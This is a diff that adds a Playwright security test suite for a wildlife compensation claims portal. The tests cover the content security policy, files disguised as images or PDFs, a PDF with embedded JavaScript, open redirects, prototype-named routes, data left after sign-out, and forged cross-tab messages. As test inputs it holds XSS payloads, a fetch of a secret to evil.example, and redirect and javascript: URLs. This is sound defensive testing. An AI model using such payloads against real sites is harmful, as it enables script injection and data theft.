@@ -1,0 +1,243 @@
+import { expect as expectPlain, test as plainTest, type Page } from '@playwright/test';
+import { people } from './support/people';
+import { pdf, photo, type TestFile } from './support/files';
+import { expect, test } from './support/portalTest';
+import { findSampleClaim } from './support/storage';
+
+declare global {
+  interface Window {
+    /** Set by what must never run. */
+    ran?: string;
+  }
+}
+
+const ranIn = (page: Page) => page.evaluate(() => window.ran);
+
+const file = (name: string, mimeType: string, text: string): TestFile => ({
+  name,
+  mimeType,
+  buffer: Buffer.from(text, 'latin1'),
+});
+
+const script = 'window.ran = "yes"; (window.opener || window.parent).ran = "yes";';
+const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>`;
+const html = `<!doctype html><script>${script}</script><img src=x onerror='${script}'>`;
+
+/** A PDF that asks its reader to run a script when it is opened, and that is a page too. */
+const scriptedPdf: TestFile = {
+  ...pdf('statement.pdf'),
+  buffer: Buffer.from(
+    pdf()
+      .buffer.toString('latin1')
+      .replace('%PDF-1.4\n', `%PDF-1.4\n%${html}\n`)
+      .replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
+    'latin1',
+  ),
+};
+
+plainTest('the page as it is sent holds no script of its own, and its policy nothing unsafe', async ({ request }) => {
+  const answer = await request.get('/', { headers: { accept: 'text/html' } });
+  const page = await answer.text();
+  expectPlain(page).not.toMatch(/<script(?![^>]*\ssrc="\/)/);
+  expectPlain(page).not.toMatch(/\son[a-z]+=|\sstyle=|javascript:|https?:\/\//i);
+  const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1] ?? '';
+  expectPlain(policy).toContain("default-src 'none'; script-src 'self';");
+  expectPlain(policy).toContain("require-trusted-types-for 'script'");
+  expectPlain(policy).not.toMatch(/unsafe|\*|https?:|data:/);
+  const headers = answer.headers();
+  expectPlain(headers['content-security-policy']).toContain("frame-ancestors 'none'");
+  expectPlain(headers['content-security-policy']).not.toMatch(/unsafe-inline|'unsafe-eval'/);
+  expectPlain(headers).toMatchObject({
+    'x-content-type-options': 'nosniff',
+    'referrer-policy': 'no-referrer',
+    'cross-origin-opener-policy': 'same-origin',
+    'cache-control': 'no-cache',
+  });
+});
+
+plainTest('no text becomes a script, a page or a style in it', async ({ page }) => {
+  await page.goto('/login');
+  await expectPlain(page.getByRole('button', { name: 'Sign In to Portal' })).toBeVisible();
+  const outcomes = await page.evaluate(async () => {
+    const attempt = async (make: () => unknown) => {
+      try {
+        await make();
+        return 'done';
+      } catch (problem) {
+        return problem instanceof Error ? problem.name : 'refused';
+      }
+    };
+    const element = document.createElement('div');
+    document.body.append(element);
+    // As its own task: what a test evaluates is above the policy.
+    await new Promise((resolve) => setTimeout(resolve));
+    const markup = await attempt(() => (element.innerHTML = '<img src=x onerror="window.ran = 1">'));
+    const address = await attempt(() => (document.createElement('script').src = 'https://evil.example/x.js'));
+    const code = await attempt(() => document.createElement('script').append('window.ran = 1'));
+    const timer = await attempt(() => Reflect.apply(setTimeout, window, ['window.ran = 1']));
+    const style = document.createElement('style');
+    style.textContent = 'body { --planted: yes }';
+    document.head.append(style);
+    const planted = getComputedStyle(document.body).getPropertyValue('--planted');
+    const wasm = await attempt(() => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)));
+    const away = await attempt(() => fetch('https://evil.example/?secret'));
+    return { markup, address, timer, planted, wasm, away, code, ran: window.ran };
+  });
+  expectPlain(outcomes).toMatchObject({
+    markup: 'TypeError',
+    address: 'TypeError',
+    timer: 'TypeError',
+    planted: '',
+    wasm: 'CompileError',
+    away: 'TypeError',
+    ran: undefined,
+  });
+});
+
+test('a drawing or a page with scripts is no evidence, whatever it is called', async ({ portal, page }) => {
+  const { wizard } = portal;
+  await portal.signInAs('district_officer');
+  await portal.startEvidence();
+  const refused: ['Photos' | 'Valuation form', TestFile, string][] = [
+    ['Photos', file('field.jpg', 'image/jpeg', svg), 'field.jpg is not an image'],
+    ['Photos', file('drawing.svg', 'image/svg+xml', svg), 'drawing.svg is not an image'],
+    ['Photos', file('page.png', 'image/png', html), 'page.png is not an image'],
+    ['Valuation form', file('letter.pdf', 'application/pdf', html), 'letter.pdf is not a PDF file'],
+    ['Valuation form', file('letter.html', 'text/html', html), 'letter.html is neither an image nor a PDF'],
+    ['Valuation form', file('form.jpg', 'image/jpeg', svg), 'form.jpg cannot be read as an image'],
+  ];
+  for (const [slot, chosen, why] of refused) {
+    await wizard.addFiles(slot, chosen);
+    await expect(page.getByRole('main')).toContainText(why);
+  }
+  expect(await ranIn(page)).toBeUndefined();
+});
+
+test('a PDF with a script in it is drawn, and nothing in it runs; it leaves as a PDF', async ({ portal, page }) => {
+  const { wizard } = portal;
+  await portal.signInAs('district_officer');
+  await portal.startEvidence();
+  await wizard.addFiles('Photos', { ...photo('field.html.png') });
+  await wizard.addFiles('Police report', scriptedPdf);
+  await wizard.file('Police report', 'statement.pdf').getByRole('button', { name: 'View statement.pdf' }).click();
+  const viewer = page.getByRole('dialog');
+  await expect(viewer.getByRole('group', { name: 'Page 1 of 1' }).locator('canvas')).toBeVisible();
+  const download = page.waitForEvent('download');
+  await viewer.getByRole('button', { name: 'Download' }).click();
+  expect((await download).suggestedFilename()).toBe('statement.pdf');
+  expect(await ranIn(page)).toBeUndefined();
+});
+
+const elsewhere = [
+  '/login?from=//evil.example',
+  '/login?from=https://evil.example',
+  '/login?from=/%5Cevil.example',
+  '/login?next=%2F%2Fevil.example#//evil.example',
+];
+
+test('sign-in leads nowhere but into the portal', async ({ portal, page, baseURL }) => {
+  for (const address of elsewhere) {
+    await page.goto(address);
+    await page.getByRole('button', { name: 'Sign In to Portal' }).waitFor();
+    await portal.login.signInAs('finance');
+    await expect(page).toHaveURL(`${baseURL}/`);
+    await portal.dashboard.isShown();
+    await portal.shell.signOut();
+  }
+  for (const from of [
+    '//evil.example',
+    '/\\evil.example',
+    'https://evil.example',
+    'javascript:window.ran=1',
+    '@evil.example',
+  ]) {
+    await page.goto('/login');
+    await page.evaluate((asked) => history.replaceState({ from: asked }, '', '/login'), from);
+    await page.reload();
+    await portal.login.signInAs('finance');
+    await expect(page).toHaveURL(`${baseURL}/`);
+    await portal.shell.signOut();
+  }
+  expect(await ranIn(page)).toBeUndefined();
+});
+
+test('addresses that name what lies behind an object lead to nothing', async ({ portal, page }) => {
+  await portal.signInAs('admin');
+  for (const id of ['__proto__', 'constructor', 'prototype', 'toString', '%3Cimg%20src=x%20onerror=ran=1%3E']) {
+    await page.goto(`/claims/${id}?tab=__proto__`);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.goto(`/new-claim?draft=${id}`);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.goto(`/claims?status=${id}&sort=${id}&district=${id}&page=${id}`);
+    await portal.claims.isShown();
+  }
+  expect(await ranIn(page)).toBeUndefined();
+  expect(await page.locator('img[src=x]').count()).toBe(0);
+});
+
+test('after signing out, Back and a page kept by the browser show nothing of the register', async ({
+  portal,
+  page,
+  openTab,
+}) => {
+  await portal.signInAs('district_officer');
+  const claim = await findSampleClaim(page, 'submitted');
+  await portal.claim.open(claim.id);
+  await portal.claims.open();
+  const nothingPersonal = async () => {
+    await portal.login.isShown();
+    await expect(page.locator('body')).not.toContainText(claim.claimant.fullName);
+    await expect(page.locator('body')).not.toContainText(people.district_officer.name);
+  };
+  await portal.shell.signOut();
+  await nothingPersonal();
+  await page.goBack();
+  await nothingPersonal();
+  await page.goBack();
+  await nothingPersonal();
+
+  // A page left open behind another one, while somebody signs out elsewhere.
+  await portal.login.signInAs('district_officer');
+  await portal.claim.open(claim.id);
+  const other = await openTab();
+  await other.dashboard.open();
+  await page.goto('about:blank');
+  await other.shell.signOut();
+  await page.goBack();
+  await nothingPersonal();
+});
+
+test('what no tab of the portal says on its channel is passed over', async ({ portal, page, openTab }) => {
+  await portal.signInAs('district_officer');
+  const claim = await findSampleClaim(page, 'submitted');
+  await portal.claim.open(claim.id);
+  const other = await openTab();
+  await other.dashboard.open();
+  await other.page.evaluate(() => {
+    const channel = new BroadcastChannel('wildlife-claims');
+    for (const message of [
+      null,
+      7,
+      'deed',
+      { kind: 'deed' },
+      { kind: 'deed', sequence: 'x', event: {} },
+      { kind: 'deed', sequence: -1 },
+      {
+        kind: 'deed',
+        sequence: Number(localStorage.getItem('wcp/sequence')) + 1,
+        event: { type: 'persist/REHYDRATE' },
+      },
+      { kind: 'draft' },
+      { kind: 'draft', event: { type: 7 } },
+      { kind: 'draft', event: { type: 'persist/PURGE', payload: {}, meta: {} } },
+      { kind: '__proto__', sequence: 1 },
+    ]) {
+      channel.postMessage(message);
+    }
+  });
+  await portal.claim.hasStatus('1. Submitted');
+  await portal.claim.startVerification();
+  await portal.claim.hasStatus('2. Under Verification');
+  await portal.claim.reload();
+  await portal.claim.hasStatus('2. Under Verification');
+});
